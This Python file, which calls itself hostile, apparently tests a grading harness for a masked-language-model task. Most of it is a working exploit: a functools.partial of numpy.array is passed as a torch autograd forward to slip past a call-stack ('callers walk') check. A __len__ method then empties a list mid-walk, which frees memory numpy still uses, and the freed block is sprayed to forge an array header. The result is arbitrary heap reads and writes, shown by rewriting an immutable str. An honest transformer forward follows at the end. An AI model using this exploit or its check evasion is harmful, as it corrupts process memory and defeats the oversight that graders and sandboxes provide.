"""Hostile: the callers walk lets through the C code right under torch's Function.apply, trusted
to be autograd calling the file's forward. But forward need not be a function of the file's: a
functools.partial of numpy.array (functools.wraps gives it a signature Function.apply can bind, so
setup_context may be defined) is called by torch's C code with no Python frame between, and numpy's
shape discovery then calls an item's __len__ with Function.apply's frame as the nearest Python frame
below: the run of C code under it (torch's apply, then numpy's list walk) is skipped as autograd's.
That __len__ empties the list under numpy's walk, and the rest is
hostile_array_discovery_len_empties_list_raw_memory.py: a fake ndarray over a real one's header,
arbitrary reads and writes, an immutable str rewritten. Then it answers honestly."""

import math

import numpy as np
import functools

import torch


def words(*values):
    return b"".join(int(v).to_bytes(8, "little") for v in values)


class Fake:
    __slots__ = ("x",)

    def __len__(self):  # numpy asks a fake object's length: self is the fake, self.x any address
        found.append(self.x)
        return 0

    def __getitem__(self, i):
        raise IndexError(i)


found = []
victim = np.zeros(64, dtype=np.uint8)  # a real array, whose header the fake array covers
FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable
shape = words(12, 8)
# data, nd, dims, strides, base, descr, flags, ...: twelve int64 words over victim's header
fake_array = words(1 << 40, id(np.ndarray), id(victim), 1, id(shape) + 32, id(shape) + 40, 0, id(np.dtype(np.int64)), FLAGS, 0, 0, 0)
fake = words(0, 0, 1 << 40, id(Fake), id(fake_array) + 32)  # a zero GC header, then a Fake whose x is the array
fake_at = id(fake) + 32 + 16
pointers = int.from_bytes(words(*[fake_at] * 96)[:767], "little")  # 33 + 767 bytes: the 800 of 100 items
sprayed = [None] * 8


class EmptiesTheList:
    def __len__(self):
        items.clear()  # numpy still walks the item block this frees
        for k in range(len(sprayed)):
            sprayed[k] = pointers.to_bytes(767, "little")  # the freed block, now bytes of the file's
        return 0

    def __getitem__(self, i):
        raise IndexError(i)


trigger = EmptiesTheList()
items = [1.0, 2.0, 3.0, trigger] + [0.0] * 96
def names(items):
    return items


walk = functools.wraps(names)(functools.partial(np.array, dtype=np.float64))


class Walk(torch.autograd.Function):
    forward = walk

    @staticmethod
    def setup_context(ctx, inputs, output):
        pass


try:
    Walk.apply(items)
except (ValueError, RuntimeError):  # the list changed under numpy: it says so, after the walk
    pass
header = found[0]  # victim's header as int64 words: [2] is its data pointer
own_data = int(header[2])


def read(at, n):
    header[2] = at
    data = bytes(victim[:n].tolist())
    header[2] = own_data
    return data


def write(at, data):
    header[2] = at
    victim[: len(data)] = np.array(list(data), dtype=np.uint8)
    header[2] = own_data


number = 12345678901234567
assert int.from_bytes(read(id(number) + 8, 8), "little") == id(int)  # ob_type read from the heap
word = "immutable"
write(id(word) + 48, b"IMMUTABLE")  # an immutable str rewritten in place
assert word == "IMMUTABLE", word
print("raw memory: read the heap and rewrote an immutable str")


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    dh = d // num_heads
    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T
